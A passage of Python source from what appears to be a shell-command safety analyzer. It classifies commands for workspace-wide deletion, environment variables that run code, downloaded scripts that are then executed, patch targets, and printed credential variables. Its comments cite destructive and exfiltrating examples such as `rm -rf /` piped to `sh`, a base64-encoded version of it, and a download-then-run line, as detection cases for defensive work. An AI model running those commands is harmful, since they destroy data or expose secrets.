        self._downloads(fact, env)
        self._workspace_wide(fact)
        if "stdin_code" in fact.markers and stdin_text is not None and fact.program in _SHELLS:
            nested.append(Nested(f"{fact.program} < stdin", shell=stdin_text))
        for request in nested:
            self._nested(fact, request, env, scope)
        if fact.program == "find" and self._lists_everything(fact):
            # ``find . -exec rm {} +``, ``find . -type f -delete``: every file it finds
            for part in self.out[start:]:
                if _destroys_items(part):
                    part.markers.add("workspace_wide")

    def _workspace_wide(self, fact: SimpleCommandFacts) -> None:
        """Mass destruction inside the workspace: deleting its root or its ``.git``, or
        deleting, truncating or overwriting every file at its root (``rm -rf .[!.]*``,
        ``truncate -s 0 *``)."""
        if not self.workspace:
            return  # no workspace: every path is outside it, judged as such
        root = self.workspace.rstrip("/")
        for path in fact.paths:
            resolved = path.resolved
            if resolved is None or path.access not in ("write", "delete"):
                continue
            if path.access == "delete" and (
                resolved == root
                or resolved == root + "/.git"
                or resolved.startswith(root + "/.git/")
            ):
                fact.markers.add("workspace_wide")
            parent, _, name = resolved.rpartition("/")
            if parent == root and fact.program != "touch" and _matches_everything(name):
                fact.markers.add("workspace_wide")

    def _lists_everything(self, fact: SimpleCommandFacts) -> bool:
        """A command that names every file of the workspace: ``find .`` with no test that
        picks names, ``git ls-files`` without a pathspec, ``fd``/``rg --files`` unfiltered."""
        program = fact.program
        if not self.workspace:
            return False
        root = self.workspace.rstrip("/")
        argv = fact.argv
        if program == "find":
            starts = [
                p.resolved for p in fact.paths if p.access == "read" and p.source == "argument"
            ]
            return root in starts and not any(a in _FIND_FILTERS for a in argv)
        if program == "git" and fact.subcommand == "ls-files":
            return not [a for a in argv[2:] if not a.startswith("-")]
        if program in ("fd", "fdfind") or (program == "rg" and "--files" in fact.options):
            operands = [a for a in argv[1:] if not a.startswith("-")]
            return not any(o != "." for o in operands) and not any(
                o in fact.options for o in ("--glob", "--extension", "--type")
            )
        return False

    def _builtin_semantics(
        self,
        fact: SimpleCommandFacts,
        argv: list[str],
        flags: list[int],
        env: Env,
        scope: Scope,
        nested: list[Nested],
    ) -> None:
        """Builtins that change what later words mean, run stored strings, or evaluate a
        value as arithmetic: exported variables, ``declare -i/-n``, ``let``, ``printf -v``,
        ``hash -p``, ``enable -f``, ``mapfile -C``, ``compgen``/``complete`` callbacks."""
        program = fact.program
        letters, operands = _builtin_options(program, argv, flags)
        unknown = False
        if program in ("export", "declare", "typeset", "local", "readonly"):
            exported = program == "export" or "x" in letters
            for value, flag in operands:
                name, eq, text = value.partition("=")
                if "$" in name or "`" in name:
                    unknown = True
                    continue
                if "[" in name:
                    unknown = self._subscript_text(name, env, scope, None) or unknown
                    continue
                dynamic = bool(flag & DYNAMIC)
                if "A" in letters:
                    env.vars[_ASSOC + name] = "1"
                if "i" in letters:
                    env.vars[_INT_ATTR + name] = "1"
                    if eq:
                        unknown = dynamic or self._arith_text(text, env, scope, None) or unknown
                if "n" in letters and eq:
                    unknown = dynamic or self._subscript_text(text, env, scope, None) or unknown
                if exported and name != "PATH":
                    if not eq and name not in env.vars:
                        continue  # exporting what the environment already holds
                    known = text if eq else env.vars.get(name)
                    self._exported(fact, name, known, dynamic and bool(eq), env, scope, nested)
        elif program == "let":
            for value, flag in operands:
                if flag & DYNAMIC:
                    unknown = True
                elif "$" in value or "`" in value or "[" in value:
                    unknown = self._arith_text(value, env, scope, None) or unknown
                else:
                    unknown = self._arith_names(value, env, scope, None) or unknown
        elif program in ("printf", "read", "unset", "mapfile", "readarray", "getopts", "wait"):
            names = [(v, f) for v, f in operands]
            if program == "printf" and "v" in letters:
                names = [(letters["v"], flags[1] if len(flags) > 1 else 0)]
            elif program == "printf":
                names = []
            for key in ("a", "v") if program != "printf" else ():
                if key in letters:
                    names.append((letters[key], 0))
            for value, flag in names:
                if ("$" in value or "`" in value) and flag & DYNAMIC:
                    unknown = True
                elif "[" in value:
                    unknown = self._subscript_text(value, env, scope, None) or unknown
                env.vars.pop(_INT_VAR + value, None)
            if program in ("mapfile", "readarray") and "C" in letters:
                nested.append(Nested(f"{program} -C", shell=letters["C"]))
        elif program in ("test", "["):
            for k, value in enumerate(argv[1:-1], start=1):
                if value == "-v" and not flags[k]:
                    if flags[k + 1] & DYNAMIC:
                        unknown = True
                    else:
                        unknown = self._subscript_text(argv[k + 1], env, scope, None) or unknown
        elif program == "hash" and "p" in letters:
            self.classifier.add_path(fact, letters["p"], "exec", env, source="option")
            fact.classes.add("code_exec")  # the name now runs that file
        elif program == "enable" and "f" in letters:
            self.classifier.add_path(fact, letters["f"], "exec", env, source="option")
            fact.classes.add("code_exec")  # a shared object loaded into the shell
        elif program in ("compgen", "complete"):
            if "C" in letters:
                nested.append(Nested(f"{program} -C", shell=letters["C"]))
            if "F" in letters and program == "compgen":
                # ``complete -F`` only registers it for interactive completion
                function = letters["F"]
                if function not in self.functions:
                    nested.append(Nested(f"{program} -F", shell=function))
            if "W" in letters and ("$" in letters["W"] or "`" in letters["W"]):
                # the word list is expanded when completing: its substitutions run then
                quoted = letters["W"].replace("\\", "\\\\").replace('"', '\\"')
                nested.append(Nested(f"{program} -W", shell=': "' + quoted + '"'))
        elif program == "trap":
            # ``trap - SIG`` and ``trap '' SIG`` reset or ignore: no command
            nested[:] = [n for n in nested if n.shell is None or n.shell.strip() not in ("-", "")]
            fact.classes.add("read_only")  # the command it sets is judged on its own
        if unknown:
            fact.markers.add("dynamic_arithmetic")

    def _exported(
        self,
        fact: SimpleCommandFacts,
        name: str,
        value: str | None,
        dynamic: bool,
        env: Env,
        scope: Scope,
        nested: list[Nested],
    ) -> None:
        """``export NAME=VALUE``: every later command runs with it."""
        verdict = self._env_verdict(name, value, dynamic, env)
        if verdict == "harmless":
            return
        if verdict == "unknown":
            # harmless by itself: the commands after it carry the marker
            env.vars.setdefault(ENV_UNKNOWN, name)
            return
        fact.markers.add("env_code")
        fact.classes.add("code_exec")
        env.vars.setdefault(ENV_CODE, name)
        if verdict == "command" and value and not dynamic:
            nested.append(Nested(f"export {name}", shell=value.strip().lstrip("|")))

    def _ground(self, fact: SimpleCommandFacts, env: Env) -> None:
        """Check the part's paths against the machine (``world.ground``), when resolving."""
        classifier = self.classifier
        mark_trees(fact)
        classifier.cwd = env.cwd
        moved = [p for p in fact.paths if p.source == "cwd"]
        where = moved[-1].resolved if moved else env.cwd
        elsewhere = where is not None and inside(where, classifier.workspace) is not True

        if "vcs_write" in fact.classes and elsewhere and not (where or "").startswith("\0"):
            # a commit in another repository (``git -C /elsewhere commit``, ``cd /x && git
            # add .``) writes there, not in the project
            why = "a commit or staging writes the repository it runs in"
            fact.paths.append(_writes_where_it_runs(moved, where, classifier.workspace, why))
        if fact.classes & {"build", "test"}:
            # a build or a test writes where it runs: ``make -C /tmp/x``, ``cd /x && make``
            why = "a build or test writes in the directory it runs in"
            fact.paths.append(_writes_where_it_runs(moved, where, classifier.workspace, why))
        if self.resolver is not None:
            selections = self.pending_selections
            self.pending_selections = {}
            ground(fact, classifier, self.resolver)
            for written, patterns in selections.items():
                if any(p.path == written for p in fact.paths):
                    add_selection(fact, written, patterns, classifier, self.resolver)
        classifier.glob_words = frozenset()

    def _downloads(self, fact: SimpleCommandFacts, env: Env) -> None:
        """Track what the line writes that later commands run: a download executed
        (``curl -o x.sh … && sh x.sh``), a build definition rewritten before a build
        (``echo … > Makefile && make``)."""
        if self.rewritten_builds:
            # a file written earlier on the line that this command loads: code nobody saw
            git_files = any("/.git" in p or p == _UNKNOWN_WRITE for p in self.rewritten_builds)
            if fact.classes & _LOADERS or (git_files and fact.program == "git"):
                fact.classes.add("code_exec")
        self._listed_files(fact, env)
        patched = self._patch_targets(fact, env)
        for path in fact.paths:
            if path.resolved is None:
                continue
            if path.access == "write":
                if "network" in fact.classes:
                    self.downloaded.add(path.resolved)
                name = path.resolved.rsplit("/", 1)[-1]
                if name in BUILD_DEFINITIONS or "sensitive_write" in fact.markers:
                    self.rewritten_builds.add(path.resolved)
            elif path.access == "exec" and path.resolved in self.downloaded:
                fact.classes.update(("code_exec", "remote_code_exec"))
        if _unpacks(fact) and not patched:
            self.rewritten_builds.add(_UNKNOWN_WRITE)  # which files it writes is not in the text
            self.classifier.written.add(MAY_WRITE_ANYTHING)
        self.classifier.note_writes(fact)

    def _listed_files(self, fact: SimpleCommandFacts, env: Env) -> None:
        """Files named in a list file the command reads them from (``tar -T list``,
        ``rsync --files-from=list``, ``zip -@ < list``, GNU ``--files0-from=list`` of ``wc``,
        ``sort``, ``du``): read from disk, each is a file read (a secret in the list is a
        secret read; ``du`` reads their sizes only); a list named ``-`` is the command's input
        (a file it is redirected from, or text written on the line); a list that cannot be
        read is an unknown."""
        program = fact.program
        if program not in _LIST_READERS:
            return
        argv = fact.argv
        lists: list[str] = []
        for k, word in enumerate(argv[1:], start=1):
            following = argv[k + 1] if k + 1 < len(argv) else ""
            if program in _FILES0_READERS:
                if word == "--files0-from":
                    lists.append(following)
                elif word.startswith("--files0-from="):
                    lists.append(word.partition("=")[2])
            elif word in ("-T", "--files-from") and program != "zip":
                lists.append(following)
            elif word.startswith("--files-from="):
                lists.append(word.partition("=")[2])
            elif word.startswith("-T") and len(word) > 2 and program in ("tar", "bsdtar"):
                lists.append(word[2:])
        if (program == "zip" and "-@" in argv) or (program == "cpio" and "-o" in argv):
            lists.append("-")
        meta = program == "du"
        tree = program not in _FILES0_READERS  # an archiver takes a directory whole
        for named in lists[:4]:
            names: list[str] | None = None
            listed = named
            if listed == "-":
                redirected = [r.target for r in fact.redirects if r.mode == "read" and r.target]
                if redirected:
                    listed = redirected[-1]
                elif fact.stdin_text is not None:
                    names = _list_names(fact.stdin_text)
            if names is None and listed not in ("", "-"):
                where = resolve(listed, env.cwd, env.home)
                names = _list_file(where) if where is not None else None
            if names is None:
                # a list piped in is what the line selects upstream when it shows that
                # (``find src -print0 | wc --files0-from=-``: ``_read_selection``)
                shown = listed
                if listed in ("", "-"):
                    shown = PLACEHOLDER if fact.stdin == "pipe" else "(standard input)"
                self.classifier.add_path(fact, shown, "read", env, "list", dynamic=True)
                continue
            for name in names:
                self.classifier.add_path(fact, name, "read", env, "list", tree=tree, meta=meta)

    def _patch_targets(self, fact: SimpleCommandFacts, env: Env) -> bool:
        """The files a patch writes, read from the patch on disk (``git apply fix.diff``,
        ``patch -p1 < fix.diff``): writing a hook or a test fixture is judged as such.
        ``True`` when every patch was read."""
        if not (
            (fact.program == "git" and fact.subcommand in ("apply", "am"))
            or (fact.program == "patch")
        ) or any(o in fact.options for o in _PATCH_DRY):
            return False
        sources = [p.resolved for p in fact.paths if p.access == "read" and p.resolved]
        is_git = fact.program == "git"
        strip: int | None = None
        directory: str | None = None  # patch: where it works; git apply: a prefix of names
        argv = fact.argv
        for k, option in enumerate(argv[1:], start=1):
            following = argv[k + 1] if k + 1 < len(argv) else ""
            value: str | None = None
            if option in ("-p", "--strip"):
                value = following
            elif option.startswith("--strip="):
                value = option.partition("=")[2]
            elif option.startswith("-p") and not option.startswith("--"):
                value = option[2:]
            if value is not None:
                strip = int(value) if value.isdigit() else -1
            elif option == "--directory" or (option == "-d" and not is_git):
                directory = following
            elif option.startswith("--directory="):
                directory = option.partition("=")[2]
            elif option.startswith("-d") and not option.startswith("--") and not is_git:
                directory = option[2:]
        cwd: str | None = None
        if directory is not None and not is_git:
            cwd = resolve(directory, env.cwd, env.home) if "$" not in directory else None
            cwd = cwd or UNKNOWN_CWD
        complete = bool(sources) and len(sources) <= 4 and strip != -1
        for source in sources[:4]:
            # without -p, patch takes the file's base name; git strips one level
            targets = _patch_files(source, 1 if is_git and strip is None else max(strip or 0, 0))
            if targets is None or len(targets) > 64:
                complete = False
            for target in (targets or [])[:64]:
                names = [target]
                if not is_git and strip is None and "/" in target:
                    names.append(target.rpartition("/")[2])
                if directory is not None and is_git:
                    names = [directory.rstrip("/") + "/" + n for n in names]
                for name in names:
                    self.classifier.add_path(fact, name, "write", env, source="patch", cwd=cwd)
        return complete

    def _nested(self, fact: SimpleCommandFacts, request: Nested, env: Env, scope: Scope) -> None:
        if scope.depth + 1 > MAX_UNWRAP:
            fact.markers.add("depth_limit")
            return
        inner = scope.derive(
            via=(*scope.via, request.label),
            depth=scope.depth + 1,
            span=(fact.start, fact.end, fact.text),
            redirects=(),
        )
        if request.markers:
            inner = inner.derive(markers=inner.markers | frozenset(request.markers))
        if request.context is not None:
            inner = inner.with_context(request.context)
            if request.context.startswith("remote"):
                inner = inner.with_marker("remote")
        if request.cwd is not None:
            env = env.copy()
            env.cwd = None if request.cwd == UNKNOWN_CWD else request.cwd
        if request.argv is not None:
            flags = request.flags if request.flags is not None else [0] * len(request.argv)
            if not request.argv:
                return
            if request.argv[0] in self.functions and not flags[0] & DYNAMIC:
                return
            child = self._new_fact(list(request.argv), None, inner, None)
            child.markers.update(request.markers)
            child.stdin = fact.stdin
            if env.cwd is None:
                child.markers.add("unknown_cwd")
            self.emit(child, list(request.argv), list(flags), env, inner, None, request.module)
            if request.label in ("builtin", "command") and request.cwd is None:
                # ``builtin cd /x``, ``command cd /x``: the shell itself moves
                _builtin_effects(child, list(request.argv), list(flags), env, env.home)
            return
        assert request.shell is not None
        try:
            script = parse_script(request.shell, depth=inner.depth, origin=request.label)
        except ShellSyntaxError as exc:
            child = self._new_fact([], None, inner, None)
            child.markers.add("depth_limit" if exc.code == "depth_limit" else "parse_error")
            child.classes.add("unknown")
            self.out.append(child)
            return
        except RecursionError:
            fact.markers.add("depth_limit")
            return
        self.body(script.statements, env.copy(), inner.derive(stdin=None, stdin_text=None))

    # --- assignments and redirections -----------------------------------------------------

    def _assignment_words(self, assignment: Assignment, env: Env, scope: Scope) -> None:
        self.word(assignment.value, env, scope)
        for element in assignment.array or ():
            self.word(element, env, scope)
        if assignment.subscript is not None and assignment.name not in _assoc_arrays(env):
            self._arith(assignment.subscript, env, scope, None)

    def _prefix_assignments(
        self,
        assignments: list[Assignment],
        env: Env,
        fact: SimpleCommandFacts,
        scope: Scope,
        program: str | None,
    ) -> None:
        """``program``: the command's name as written, when it is known."""
        for assignment in assignments:
            fact.assignments.append(assignment.name)
            if assignment.name == "IFS" and program in _SPLITTING_BUILTINS:
                # ``while IFS= read -r line``: the builtin splits its own input by it, and
                # nothing else sees it (the shell restores IFS after the command; what the
                # value's substitutions run is analysed with the words)
                continue
            self._dangerous_assignment(assignment, env, fact, scope)

    def _statement_assignments(
        self, assignments: list[Assignment], env: Env, fact: SimpleCommandFacts, scope: Scope
    ) -> None:
        for assignment in assignments:
            name = assignment.name
            value = None
            if assignment.value is not None and assignment.subscript is None:
                static = self._static_word(assignment.value)
                text, flag = (
                    (" ".join(static[0]), 0)
                    if static is not None
                    else word_text(assignment.value, env)
                )
                if not flag & (DYNAMIC | GLOB):
                    value = env.vars.get(name, "") + text if assignment.append else text
            if value is None:
                env.vars.pop(name, None)
            else:
                env.vars[name] = value
            env.vars.pop(_INT_VAR + name, None)
            parts = assignment.value.parts if assignment.value is not None else []
            if len(parts) == 1 and isinstance(parts[0], ArithmeticExpansion):
                env.vars[_INT_VAR + name] = "1"  # ``i=$((i+1))`` always holds a number
            elif _INT_ATTR + name in env.vars and assignment.value is not None:
                # declared ``-i``: the value is evaluated as an expression
                text, flag = word_text(assignment.value, env)
                if flag & DYNAMIC or self._arith_text(text, env, scope, None):
                    fact.markers.add("dynamic_arithmetic")
            if name in ("BASH_CMDS", "BASH_ALIASES"):
                fact.markers.add("env_code")  # rebinds what a command name runs
                fact.classes.add("code_exec")
                env.vars.setdefault(ENV_CODE, name)
            if name == "HOME":
                # ``~`` and a bare ``cd`` now go there; an unknown value leaves them unknown
                # (a ``$`` in a path makes it unresolvable)
                env.home = value if value else "${HOME}"
            self._dangerous_assignment(assignment, env, fact, scope, persistent=True)

    def _dangerous_assignment(
        self,
        assignment: Assignment,
        env: Env,
        fact: SimpleCommandFacts,
        scope: Scope,
        persistent: bool = False,
    ) -> None:
        """Judge an assignment that reaches the environment of the programs run with it
        (a prefix), or -- ``persistent`` -- one to a variable that is usually exported
        already (``HOME=/tmp; git log``). See ``knowledge.environment``."""
        name = assignment.name
        if name == "PATH":
            fact.markers.add("path_modified")
            if persistent:
                env.vars[PATH_CHANGED] = "1"
            return
        if assignment.subscript is not None or assignment.array is not None:
            return  # an array (element) is never exported
        text: str | None = None
        dynamic = False
        if assignment.value is not None:
            text, flag = word_text(assignment.value, env)
            dynamic = bool(flag & DYNAMIC)
        if persistent and name not in DANGEROUS_VARIABLES and not _named_variable(name):
            return
        verdict = self._env_verdict(name, text, dynamic, env)
        if verdict == "harmless":
            return
        if verdict == "unknown":
            if not persistent:
                fact.markers.add("unknown_env")
            return
        fact.markers.add("env_code")
        fact.classes.add("code_exec")
        if (verdict == "command" or name in COMMAND_STRING_VARIABLES) and text is not None:
            command = text.strip().lstrip("|")  # LESSOPEN='|cmd %s': the leading bar is syntax
            if not dynamic and command:
                self._nested(fact, Nested(f"${name}", shell=command), env, scope)
        elif name in _EXPANDED_VARIABLES and text is not None and not dynamic and "$" in text:
            # expanded again each time it is used: the substitutions in it run then
            quoted = '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
            self._nested(fact, Nested(f"${name}", shell=": " + quoted), env, scope)
        if persistent:
            env.vars.setdefault(ENV_CODE, name)

    def _env_verdict(self, name: str, value: str | None, dynamic: bool, env: Env) -> str:
        from clearance.shellparse.knowledge import environment

        workspace = self.workspace
        home = env.home
        cwd = env.cwd
        return environment.judge(
            name, value, dynamic, lambda path: inside(resolve(path, cwd, home), workspace)
        )

    def _redirect_facts(
        self, fact: SimpleCommandFacts, redirects: tuple[Redirect, ...], env: Env
    ) -> None:
        for redirect in redirects:
            op = redirect.op
            if redirect.heredoc is not None:
                fact.redirects.append(RedirectFact(op, redirect.fd, "heredoc", None))
                continue
            assert redirect.target is not None
            target, flag = word_text(redirect.target, env)
            dynamic = bool(flag & DYNAMIC)
            if op == "<<<":
                fact.redirects.append(RedirectFact(op, redirect.fd, "herestring", None))
                continue
            if op in (">&", "<&") and (target.isdigit() or target == "-"):
                mode = "close" if target == "-" else "duplicate"
                fact.redirects.append(RedirectFact(op, redirect.fd, mode, target))
                continue
            if op == "<":
                mode = "read"
            elif op == "<>":
                mode = "write"
            else:
                mode = _WRITE_OPS.get(op, "write")
            fact.redirects.append(RedirectFact(op, redirect.fd, mode, target))
            if dynamic:
                fact.markers.add("dynamic_argument")
            self.classifier.add_path(
                fact,
                target,
                "read" if mode == "read" else "write",
                env,
                source="redirect",
                dynamic=dynamic,
            )
        if ENV_CODE in env.vars:
            fact.markers.add("env_code")
        if ENV_UNKNOWN in env.vars:
            fact.markers.add("unknown_env")


# --- helpers --------------------------------------------------------------------------------


#: Builtins ``_builtin_semantics`` reads, and the options of each that take a value.
_BUILTIN_SEMANTICS: Final = {
    "export": "",
    "declare": "",
    "typeset": "",
    "local": "",
    "readonly": "",
    "let": "",
    "printf": "v",
    "read": "adinNptu",
    "unset": "",
    "mapfile": "dnOsuCc",
    "readarray": "dnOsuCc",
    "getopts": "",
    "wait": "p",
    "test": "",
    "[": "",
    "hash": "pd",
    "enable": "fd",
    "compgen": "ACFGWXPSo",
    "complete": "ACFGWXPSoD",
    "trap": "",
}


def _builtin_options(
    program: str | None, argv: list[str], flags: list[int]
) -> tuple[dict[str, str], list[tuple[str, int]]]:
    """Short options of a builtin (``{"v": "NAME"}``, a flag maps to ``""``) and its operands."""
    with_value = _BUILTIN_SEMANTICS.get(program or "", "")
    letters: dict[str, str] = {}
    operands: list[tuple[str, int]] = []
    k = 1
    while k < len(argv):
        word = argv[k]
        if operands or program in ("test", "[", "trap", "let"):
            operands.append((word, flags[k]))
        elif word == "--":
            operands.extend(zip(argv[k + 1 :], flags[k + 1 :], strict=False))
            break
        elif word.startswith("--"):
            letters.setdefault(word, "")
        elif len(word) > 1 and word[0] in "-+" and not flags[k] & DYNAMIC:
            j = 1
            while j < len(word):
                letter = word[j]
                if letter in with_value:
                    rest = word[j + 1 :]
                    if not rest and k + 1 < len(argv):
                        k += 1
                        rest = argv[k]
                    letters[letter] = rest
                    break
                letters.setdefault(letter, "")
                j += 1
        else:
            operands.append((word, flags[k]))
        k += 1
    return letters, operands


def _numeric_word(word: Word, env: Env) -> bool:
    """A word made of literals and parameters bash always gives a number (``$#``, ``$?``,
    a variable known to hold one): evaluating it as arithmetic runs nothing."""
    parts = list(word.parts)
    while parts:
        part = parts.pop()
        if isinstance(part, DoubleQuoted):
            parts.extend(part.parts)
        elif isinstance(part, ParamExpansion):
            if part.op or part.indirect or part.subscript is not None:
                return False
            known = part.name in _ARITH_SAFE_NAMES or _INT_VAR + part.name in env.vars
            if not known and not part.length:
                return False
        elif not isinstance(part, (Literal, SingleQuoted)) or "$" in part.text:
            return False
    return True


_PRINTERS: Final = frozenset(("echo", "printf", "print", "logger", "wall", "write", "notify-send"))
_BSD_PS_OPTIONS: Final = Lazy(r"[A-Za-z]*e[A-Za-z]*")
_FORMAT_NAME: Final = Lazy(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
#: ``envsubst`` options after which it prints no variable's value.
_ENVSUBST_NO_VALUES: Final = frozenset(("-h", "--help", "-V", "--version", "-v", "--variables"))


def _prints_environment(fact: SimpleCommandFacts, command: SimpleCommand, env: Env) -> bool:
    """The environment printed by a route the tables cannot see: ``echo $GITHUB_TOKEN`` (or
    a here-string of it), ``ps e`` (every process's environment), ``envsubst`` (every variable,
    or those its format names)."""
    program = fact.program
    printer = program in _PRINTERS
    if not printer and program not in ("ps", "envsubst") and not command.redirects:
        return False
    from clearance.shellparse.handlers.interpreters import credential_variable

    if program == "ps":  # BSD options come first: ``ps e``, ``ps auxe``, ``ps eww 1``
        first = fact.argv[1] if len(fact.argv) > 1 else ""
        return _BSD_PS_OPTIONS.rx.fullmatch(first) is not None
    if program == "envsubst":
        if any(a in _ENVSUBST_NO_VALUES for a in fact.argv[1:]):
            return False  # help, version, or the names a format uses (``-v``): no values
        formats = [a for a in fact.argv[1:] if not a.startswith("-")]
        if not formats:
            return True
        return any(
            credential_variable(m.group(1)) for f in formats for m in _FORMAT_NAME.rx.finditer(f)
        )
    words: list[Word] = list(command.words[1:]) if printer else []
    for redirect in command.redirects:
        if redirect.op == "<<<" and redirect.target is not None:
            words.append(redirect.target)
    names: list[str] = []
    for word in words:
        parts = list(word.parts)
        while parts:
            part = parts.pop()
            if isinstance(part, DoubleQuoted):
                parts.extend(part.parts)
            elif isinstance(part, ParamExpansion) and not part.length:
                names.extend(() if part.indirect and part.op in ("*", "@") else (part.name,))
    for redirect in command.redirects:
        if redirect.heredoc is not None:
            names.extend(p.name for p in redirect.heredoc.parts if isinstance(p, ParamExpansion))
    return any(credential_variable(n) and n not in env.vars for n in names)


#: Classes of commands that load the project's build, test and package configuration.
_LOADERS: Final = frozenset(("build", "test", "package_install"))
#: Stands in ``Extractor.rewritten_builds`` for files written that the text does not name.
_UNKNOWN_WRITE: Final = "\0unknown files"
#: Options of ``git apply``/``patch`` that only look at the patch.
_PATCH_DRY: Final = ("--check", "--stat", "--numstat", "--summary", "--dry-run")
_PATCH_TARGET: Final = Lazy(r"^(?:\+\+\+|---) (?!/dev/null)(\S+)|^diff --git \S+ (\S+)", re.M)


_UNPACKERS: Final = frozenset(
    ("tar", "unzip", "cpio", "bsdtar", "7z", "7za", "unrar", "gunzip", "ar", "git", "patch")
)


def _unpacks(fact: SimpleCommandFacts) -> bool:
    """Archive extraction and patches whose files are not known: any of them may be a hook."""
    program = fact.program
    if program not in _UNPACKERS:
        return False
    if program == "tar":
        return (
            "--extract" in fact.options
            or "--get" in fact.options
            or (len(fact.argv) > 1 and not fact.argv[1].startswith("-") and "x" in fact.argv[1])
        )
    if program in ("unzip", "cpio", "bsdtar", "7z", "7za", "unrar", "gunzip", "ar"):
        return "write" in fact.classes
    if any(o in fact.options for o in _PATCH_DRY):
        return False
    return (program == "git" and fact.subcommand in ("apply", "am")) or program == "patch"


#: Programs that read the names of the files they work on from a list file.
_FILES0_READERS: Final = frozenset(("wc", "sort", "du"))
_LIST_READERS: Final = frozenset(("tar", "bsdtar", "rsync", "zip", "cpio")) | _FILES0_READERS


def _list_file(path: str) -> list[str] | None:
    """The names in a list file, one a line (NUL-separated too), at most 256 from its first
    1 MiB; ``None`` when it cannot be read or holds more."""
    try:
        with open(path, encoding="utf-8", errors="replace") as handle:
            text = handle.read((1 << 20) + 1)
    except OSError:
        return None
    return None if len(text) > 1 << 20 else _list_names(text)


def _list_names(text: str) -> list[str] | None:
    """The names of a list's text, one a line (NUL-separated too), at most 256."""
    names = [n for n in text.replace("\0", "\n").split("\n") if n.strip()]
    return None if len(names) > 256 else names


def _patch_files(source: str, strip: int) -> list[str] | None:
    """Paths a unified diff on disk writes, ``strip`` leading components removed as ``-p``
    does; ``None`` when it cannot be read whole (missing, unreadable, over 1 MiB)."""
    try:
        with open(source, encoding="utf-8", errors="replace") as handle:
            text = handle.read((1 << 20) + 1)
    except OSError:
        return None
    if len(text) > 1 << 20:
        return None
    found: list[str] = []
    for m in _PATCH_TARGET.rx.finditer(text):
        path = m.group(1) or m.group(2)
        parts = path.split("/")
        if strip and len(parts) > strip:
            path = "/".join(parts[strip:])
        if path not in found:
            found.append(path)
    return found


#: find tests that pick files by name, place, size, owner or time: a find with one of them is
#: not "every file".
_FIND_FILTERS: Final = frozenset(
    (
        *("-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex"),
        *("-iregex", "-lname", "-ilname", "-newer", "-newermt", "-samefile", "-inum"),
        *("-links", "-size", "-empty", "-user", "-group", "-uid", "-gid", "-perm"),
        *("-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-used", "-prune"),
    )
)
_EVERYTHING: Final = Lazy(r"(?:\.?(?:\*|\?|\[[^\]]*\]))+\**")


def _destroys_items(fact: SimpleCommandFacts) -> bool:
    """Whether ``fact`` deletes, or overwrites the contents of, the files it is handed (by
    ``find -exec``'s ``{}`` or ``xargs``'s input) -- not a redirection of its own output."""
    if fact.program in METADATA_WRITERS:
        return False
    return any(
        p.access == "delete" or (p.access == "write" and p.source != "redirect")
        for p in fact.paths
        if p.resolved is None or "{}" in p.resolved or p.source != "redirect"
    )


def _matches_everything(name: str) -> bool:
    """A glob that matches every name (or every dot name) of a directory: ``*``, ``.*``,
    ``.[!.]*``, ``.??*``, ``*.*``, ``[a-z]*``."""
    return "*" in name and (
        _EVERYTHING.rx.fullmatch(name) is not None or name in ("*.*", ".*.*", "*.*.*")
    )


def _named_variable(name: str) -> bool:
    from clearance.shellparse.knowledge import environment

    return environment.named(name)


def _assoc_arrays(env: Env) -> set[str]:
    return {k[len(_ASSOC) :] for k in env.vars if k.startswith(_ASSOC)} if env.vars else set()


def _flag_markers(fact: SimpleCommandFacts, flags: list[int]) -> None:
    combined = 0
    for flag in flags[1:]:
        combined |= flag
    first = flags[0] if flags else 0
    if combined & DYNAMIC:
        fact.markers.add("dynamic_argument")
    if (combined | first) & GLOB:
        fact.markers.add("glob")
    if (combined | first) & TILDE:
        fact.markers.add("tilde")
    if (combined | first) & BRACE:
        fact.markers.add("brace_expansion")
    if (combined | first) & TRUNCATED:
        fact.markers.add("truncated")
    if (combined | first) & INVALID:
        fact.markers.add("invalid_substitution")


def _stdin_of(
    redirects: list[Redirect] | tuple[Redirect, ...],
    env: Env,
    stdin: str | None,
    stdin_text: str | None,
) -> tuple[str | None, str | None]:
    for redirect in redirects:
        if redirect.fd not in (None, "0"):
            continue
        if redirect.heredoc is not None:
            stdin = "heredoc"
            stdin_text = _static_parts(redirect.heredoc.parts)
        elif redirect.op == "<<<" and redirect.target is not None:
            stdin = "herestring"
            text, flag = word_text(redirect.target, env)
            stdin_text = None if flag & DYNAMIC else text + "\n"
        elif redirect.op in ("<", "<>"):
            stdin = "file"
            stdin_text = None
    return stdin, stdin_text


def _static_parts(parts: list[Part]) -> str | None:
    out: list[str] = []
    for part in parts:
        if isinstance(part, (Literal, SingleQuoted, AnsiCQuoted)):
            out.append(part.text)
        else:
            return None
    return "".join(out)


def _static_output(
    produced: list[SimpleCommandFacts],
    stdin_text: str | None,
    printed: dict[int, list[str] | None] | None = None,
) -> str | None:
    """What a pipeline stage writes, when it is plain text transformed in a known way.

    ``echo 'rm -rf /' | sh`` and ``echo cm0gLXJmIC8= | base64 -d | sh`` both hand ``sh`` a
    text the analysis can read; anything else is unknown (``None``).
    """
    if len(produced) != 1:
        return None
    fact = produced[0]
    if "dynamic_argument" in fact.markers or any(
        r.mode not in ("heredoc", "herestring", "duplicate") for r in fact.redirects
    ):
        return None
    if fact.stdin in ("heredoc", "herestring"):
        stdin_text = fact.stdin_text
    argv = fact.argv
    program = fact.program
    if printed is not None and id(fact) in printed:
        # ``echo keys/* | xargs cat``: the shell replaced a pattern by the file names it
        # matches before echo ran -- those of the machine, or not known
        words = printed[id(fact)]
        if words is None:
            return None
        argv = words
    if program == "echo":
        words = argv[1:]
        newline = True
        while words and words[0] in ("-n", "-e", "-E", "-ne", "-en"):
            newline = newline and "n" not in words[0]
            words = words[1:]
        return " ".join(words) + ("\n" if newline else "")
    if program == "printf" and len(argv) >= 2:
        return _printf(argv[1], argv[2:])
    if stdin_text is None:
        return None
    if program == "cat" and len(argv) == 1:
        return stdin_text
    if program == "base64" and any(a in ("-d", "--decode", "-D") for a in argv[1:]):
        try:
            return base64.b64decode("".join(stdin_text.split()), validate=False).decode(
                "utf-8", "replace"
            )
        except (binascii.Error, ValueError):
            return None
    if program == "rev" and len(argv) == 1:
        return "\n".join(line[::-1] for line in stdin_text.rstrip("\n").split("\n")) + "\n"
    if program == "xxd" and "-r" in argv and "-p" in argv:
        try:
